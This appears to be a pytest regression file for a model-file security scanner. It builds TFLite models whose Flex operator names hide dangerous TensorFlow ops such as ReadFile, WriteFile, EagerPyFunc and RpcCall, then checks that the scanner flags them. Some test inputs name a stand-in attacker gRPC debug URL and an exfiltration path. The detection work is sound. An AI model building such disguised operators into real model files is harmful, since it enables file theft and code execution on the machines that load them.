"""Red-team regressions: what a TFLite Flex operator really runs.

The select-TF-ops delegate (tensorflow/lite/delegates/flex/kernel.cc) reads each Flex
operator's ``custom_options`` as a FlexBuffer vector ``[op name, serialized NodeDef]`` and
builds the kernel of ``NodeDef.op``; the operator code's ``Flex<Op>`` name only routes the
node to the delegate. Judging the name alone let ``FlexAdd`` carry a ``ReadFile`` NodeDef.
Models are written with `flatbuffers.Builder` (schema.fbs field numbers) and options with
`flatbuffers.flexbuffers.Builder`, as the TFLite converter does.
"""

from __future__ import annotations

import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_tensorflow import attr, fld, node

from modelward import Severity, scan_bytes
from modelward._internal.flexbuffers import string_vector
from modelward.errors import FormatError

flatbuffers = pytest.importorskip("flatbuffers")
from flatbuffers import flexbuffers  # noqa: E402

CUSTOM = 32


def flex_options(op: str, node_def: bytes, *, as_blob: bool = True) -> bytes:
    """``[op, NodeDef]`` as the converter writes it (String) or as a Blob."""
    fbb = flexbuffers.Builder()
    with fbb.Vector():
        fbb.String(op)
        if as_blob:
            fbb.Blob(node_def)
        else:
            fbb.String(node_def.decode("ascii"))
    return bytes(fbb.Finish())


def string_tensor_bytes(*values: str) -> bytes:
    """TFLite's string tensor layout: count, count + 1 offsets, then the bytes."""
    raw = [v.encode() for v in values]
    header = 4 * (len(raw) + 2)
    ends, pos = [], header
    for r in raw:
        ends.append(pos)
        pos += len(r)
    ends.append(pos)
    return struct.pack(f"<{len(ends) + 1}i", len(raw), *ends) + b"".join(raw)


def flex_model(code_name: str, options: bytes, *, path: str | None = None,
               large: bool = False) -> bytes:
    """One subgraph, one Flex operator whose input 0 is a constant string tensor."""
    b = flatbuffers.Builder(1024)
    name = b.CreateString(code_name)
    b.StartObject(4)
    b.PrependUOffsetTRelativeSlot(1, name, 0)
    b.PrependInt32Slot(3, CUSTOM, 0)
    b.PrependInt8Slot(0, CUSTOM, 0)
    code = b.EndObject()
    b.StartObject(4)
    b.PrependUint32Slot(2, 1, 0)
    tensor = b.EndObject()
    opts = None if large else b.CreateByteVector(options)
    b.StartVector(4, 1, 4)
    b.PrependInt32(0)
    ins = b.EndVector()
    b.StartObject(11)
    b.PrependUint32Slot(0, 0, 0)
    b.PrependUOffsetTRelativeSlot(1, ins, 0)
    if opts is not None:
        b.PrependUOffsetTRelativeSlot(5, opts, 0)
    if large:  # large_custom_options_offset/size, patched once the file size is known
        b.PrependUint64Slot(9, 0xDEADBEEF, 0)
        b.PrependUint64Slot(10, len(options), 0)
    operator = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(tensor)
    tensors = b.EndVector()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(operator)
    operators = b.EndVector()
    b.StartObject(5)
    b.PrependUOffsetTRelativeSlot(0, tensors, 0)
    b.PrependUOffsetTRelativeSlot(3, operators, 0)
    subgraph = b.EndObject()
    b.StartObject(3)
    buf0 = b.EndObject()
    data = b.CreateByteVector(string_tensor_bytes(path) if path is not None else b"")
    b.StartObject(3)
    b.PrependUOffsetTRelativeSlot(0, data, 0)
    buf1 = b.EndObject()
    vectors = []
    for items in ([code], [subgraph], [buf0, buf1]):
        b.StartVector(4, len(items), 4)
        for item in reversed(items):
            b.PrependUOffsetTRelative(item)
        vectors.append(b.EndVector())
    b.StartObject(8)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, vectors[0], 0)
    b.PrependUOffsetTRelativeSlot(2, vectors[1], 0)
    b.PrependUOffsetTRelativeSlot(4, vectors[2], 0)
    b.Finish(b.EndObject(), file_identifier=b"TFL3")
    out = bytes(b.Output())
    if large:
        at = out.index(struct.pack("<Q", 0xDEADBEEF))
        out = out[:at] + struct.pack("<Q", len(out)) + out[at + 8:] + options
    return out


def hits(data: bytes) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for f in scan_bytes(data, "model.tflite", raise_internal=True).findings:
        if f.severity >= Severity.MEDIUM:
            out.setdefault(f.rule.id, set()).add(f.evidence or "")
    return out


def test_flex_name_disguises_nodedef_op() -> None:
    """FlexAdd routes to the delegate, the NodeDef says ReadFile: the delegate runs ReadFile."""
    data = flex_model("FlexAdd", flex_options("Add", node("add", "ReadFile", "p")))
    assert "ReadFile" in hits(data).get("MW-TFLITE-002", set())


def test_flex_nodedef_as_string_like_the_converter() -> None:
    """The converter stores the NodeDef as a FlexBuffer String, not a Blob."""
    data = flex_model("FlexIdentity", flex_options("Identity", node("n", "EagerPyFunc", "x"),
                                                   as_blob=False))
    assert "EagerPyFunc" in hits(data).get("MW-TFLITE-002", set())


def test_flex_nodedef_in_large_custom_options() -> None:
    """Models over 2 GB keep custom options outside the flatbuffer (offset/size pair)."""
    data = flex_model("FlexAdd", flex_options("Add", node("w", "WriteFile", "a", "b")),
                      large=True)
    assert "WriteFile" in hits(data).get("MW-TFLITE-002", set())


def test_flex_nodedef_attribute_and_function_attr() -> None:
    """A standard op with a URL attribute, and a PartitionedCall whose f names an op."""
    debug = node("d", "DebugIdentity", "x", attrs=attr(
        "debug_urls", fld(1, fld(2, "grpc://attacker.invalid:6064"))))
    assert "MW-TFLITE-002" in hits(flex_model("FlexDebugIdentity",
                                              flex_options("DebugIdentity", debug)))
    call = node("c", "PartitionedCall", "x", attrs=attr("f", fld(10, fld(1, "RpcCall"))))
    assert "RpcCall" in hits(flex_model("FlexPartitionedCall",
                                        flex_options("PartitionedCall", call))).get(
        "MW-TFLITE-002", set())


def test_flex_constant_path_from_string_buffer() -> None:
    """A Flex SaveV2 whose prefix input is a constant string tensor outside variables/."""
    save = node("save", "SaveV2", "prefix", "names", "slices", "t")
    data = flex_model("FlexSaveV2", flex_options("SaveV2", save), path="/tmp/exfil/ckpt")
    assert "SaveV2(/tmp/exfil/ckpt)" in hits(data).get("MW-TFLITE-002", set())
    ok = flex_model("FlexSaveV2", flex_options("SaveV2", save), path="variables/variables")
    assert "MW-TFLITE-002" not in hits(ok)


def test_flex_standard_nodedef_is_clean() -> None:
    """A benign Flex op (the converter's usual case) gives no finding at MEDIUM or above."""
    data = flex_model("FlexRFFT", flex_options("RFFT", node("rfft", "RFFT", "x", "len")))
    assert hits(data) == {}


def test_flex_nodedef_custom_op_is_medium() -> None:
    data = flex_model("FlexRFFT", flex_options("RFFT", node("n", "MyKernel", "x")))
    assert "MyKernel" in hits(data).get("MW-TFLITE-001", set())


def test_flex_unreadable_options_are_medium() -> None:
    """Options that are not [name, NodeDef] cannot be verified: MEDIUM, not a crash."""
    data = flex_model("FlexRFFT", b"\x01\x02\x03garbage")
    assert "MW-TFLITE-001" in hits(data)


def test_flexbuffer_reader_bounds() -> None:
    good = flex_options("Add", b"\x0a\x01x")
    assert string_vector(good) == [b"Add", b"\x0a\x01x"]
    for bad in (b"", b"\x00\x00", good[:-1] + b"\x03", b"\xff" * 8 + good[-2:]):
        with pytest.raises(FormatError):
            string_vector(bad)


@given(st.binary(max_size=64))
@settings(max_examples=300, deadline=None)
def test_property_flexbuffer_reader(blob: bytes) -> None:
    try:
        string_vector(blob)
    except FormatError:
        pass


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_property_mutated_flex_options_never_crash(data: st.DataObject) -> None:
    options = bytearray(flex_options("Add", node("add", "ReadFile", "p")))
    for _ in range(data.draw(st.integers(1, 4))):
        options[data.draw(st.integers(0, len(options) - 1))] = data.draw(st.integers(0, 255))
    scan_bytes(flex_model("FlexAdd", bytes(options)), "model.tflite", raise_internal=True)
